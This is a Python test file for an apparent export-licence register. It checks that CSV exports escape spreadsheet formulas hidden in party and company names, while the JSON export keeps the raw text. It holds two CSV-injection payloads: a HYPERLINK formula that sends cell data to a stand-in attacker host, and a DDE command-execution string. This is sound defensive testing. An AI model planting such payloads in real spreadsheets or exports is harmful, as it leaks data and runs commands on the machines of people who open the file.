"""Issue 13, attack 4, the next tries: the formula goes into a party's name or the company
instead of an item description. The register export (CSV) escapes every text cell that a
spreadsheet would evaluate, whichever column it is in; the JSON export keeps the text as it
was given (JSON is not evaluated)."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from register_helpers import Api, application

from openatt.text_cells import FORMULA_STARTS

END_USER = '=HYPERLINK("http://evil.invalid/?x="&A1,"Ministry of Defence")'
EXPORTER = "-2+3+cmd|' /C calc'!A0"


def test_a_formula_in_a_party_name_or_the_company_is_escaped_in_the_register_export(
    api: Api,
) -> None:
    body = application(end_user={"name": END_USER, "country": "NZL", "kind": "armed_forces"})
    body["exporter"] = {"name": EXPORTER, "country": "GBR"}  # an officer's entry: the company
    created = api.post("/applications", "officer", body)
    assert created.status_code == 201, created.text
    response = api.get("/register/export?format=csv", "officer")
    assert response.status_code == 200, response.text
    (row,) = list(csv.DictReader(io.StringIO(response.text)))
    assert row["end_user"] == "'" + END_USER
    assert row["company"] == "'" + EXPORTER
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values() if cell)
    as_json = api.get("/register/export?format=json", "officer")
    assert as_json.status_code == 200, as_json.text
    records = as_json.json()
    records = records.get("rows", records) if isinstance(records, dict) else records
    assert [r["end_user"] for r in records] == [END_USER]
